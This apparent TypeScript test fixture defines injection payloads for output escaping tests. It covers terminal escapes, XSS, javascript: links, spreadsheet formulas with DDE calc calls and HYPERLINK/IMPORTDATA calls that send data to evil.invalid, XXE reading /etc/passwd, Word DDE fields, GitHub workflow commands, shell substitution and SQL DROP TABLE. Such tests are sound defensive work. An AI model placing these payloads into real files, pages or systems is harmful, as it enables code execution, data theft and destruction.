/** Words that some reader of some output would obey. */

/** What each tries → the words. Each is written into every text of a scorecard. */
export const PAYLOADS = {
  'colours and windows of a terminal': 'a\u001b[31m\u001b[2J\u001b]0;x\u0007b\u009b2J\u0008\u007f',
  'links and clipboards of a terminal':
    'a\u001b]8;;http://evil.invalid\u0007b\u001b]8;;\u0007\u001b]52;c;cHduZWQ=\u001b\\',
  'lines over other lines': 'một\rhai\r\nba\u000bbốn\u000cnăm\u0085sáu\u2028bảy\u2029tám',
  'directions of writing': 'a\u202egpj.exe\u202c\u2066b\u2069\u2067\u061c',
  'a script': '</script></style></title></textarea><script>window.pwned=1</script><svg onload="window.pwned=1">',
  'an attribute': `" onmouseover="window.pwned=1" x='><img src="http://evil.invalid/x.png" onerror="window.pwned=1">`,
  'an address that is a script': 'javascript:window.pwned=1//',
  'links and pictures of Markdown':
    '[a](javascript:window.pwned=1) ![b](http://evil.invalid/b.png) <http://evil.invalid/c> [d][e] <a href="javascript:window.pwned=1">f</a>',
  'a definition of Markdown': '\n\n[e]: http://evil.invalid/e\n\n[e]',
  'tables of Markdown': '| a | b |\n|---|---|\n| c | d |',
  'marks of Markdown': '# a\n> b\n- c\n1. d\n```\ne\n```\n**f** _g_ `h` ~~i~~ $j$ <!-- k -->',
  'calls to people': 'cc @admin, @nhom/doi @all #1 GH-1 !1 /close',
  'a formula with =': '=HYPERLINK("http://evil.invalid/?"&A1,"x")',
  'a formula with +': "+1+cmd|' /C calc'!A0",
  'a formula with -': "-2+3+cmd|' /C calc'!A0",
  'a formula with @': '@SUM(1+1)*IMPORTDATA("http://evil.invalid")',
  'a formula after a tab': '\t=1+1',
  'a formula after a line break': '\r\n=1+1',
  'a formula in wide letters': '＝1＋1',
  'ends and entities of XML':
    ']]></failure></t><x a="b">&amp;&#7;&lt;&bogus;<!DOCTYPE y [<!ENTITY z SYSTEM "file:///etc/passwd">]>&z;',
  'a command of GitHub': '::error file=x,line=1::y',
  'commands of GitHub behind line breaks': '%0A::warning::z%25\n::debug::hai\r\n##[add-mask]x',
  'an attachment of Jenkins': '[[ATTACHMENT|/etc/passwd]]',
  'fields of Word': '{ HYPERLINK "http://evil.invalid" } { DDEAUTO cmd "/k calc" } <w:fldSimple w:instr="DDE cmd"/>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what is tried
  'places of a template': '{unit}{#criteria}{name}{/criteria} ${x} #{x} <%= x %> {{x}} %s',
  'lines of a calendar': 'a;b,c\\n\r\nATTENDEE:mailto:x@evil.invalid\r\nEND:VEVENT\r\nBEGIN:VALARM',
  'tags and anchors of YAML': '!!js/function "a" &b *b {c: [d]} # e: |\n---\n- f',
  'codes of headers and footers': '&P&[File]&"Arial"&K000000&G',
  'a spelling of workbooks': '_x0041__x005F_x000A_',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what is tried
  'words of a shell': '$(touch pwned) `touch pwned`; touch pwned | x && %PATH% ${HOME} \'"; touch pwned #',
  'words of a database': "'; DROP TABLE scores; --",
  'a prototype': '__proto__',
} as const satisfies Readonly<Record<string, string>>;

export const KINDS = Object.keys(PAYLOADS) as readonly (keyof typeof PAYLOADS)[];

/** Every payload in one text, for what there is one of only. */
const ALL_AT_ONCE = Object.values(PAYLOADS).join(' ; ');

const written = new Map<string, { readonly field: string; readonly text: string }>();

/** The words with a mark of their own at their end, by which they are found wherever they come out. */
const marked = (field: string, index: number, words: string): string => {
  const mark = `q${field}${index}z`;
  const text = `${words} ${mark}`;
  written.set(mark, { field, text });
  return text;
};

/** A payload for a field, which is named by small letters. */
export const payload = (field: string, index: number, as = (words: string): string => words): string =>
  marked(field, index, as(Object.values(PAYLOADS)[index] ?? ''));

export const allAtOnce = (field: string): string => marked(field, KINDS.length, ALL_AT_ONCE);

/** A payload as a file's name: without what parts folders, here or on Windows. */
export const payloadName = (index: number): string =>
  marked('file', index, (Object.values(PAYLOADS)[index] ?? '').replace(/[/\\]/gu, '∕').slice(0, 60));

export const MARK = /q[a-z]+\d+z/gu;

/** What was written with a mark. */
export const behind = (mark: string): { readonly field: string; readonly text: string } => {
  const found = written.get(mark);
  if (found === undefined) throw new Error(`nothing was written with the mark ${mark}`);
  return found;
};
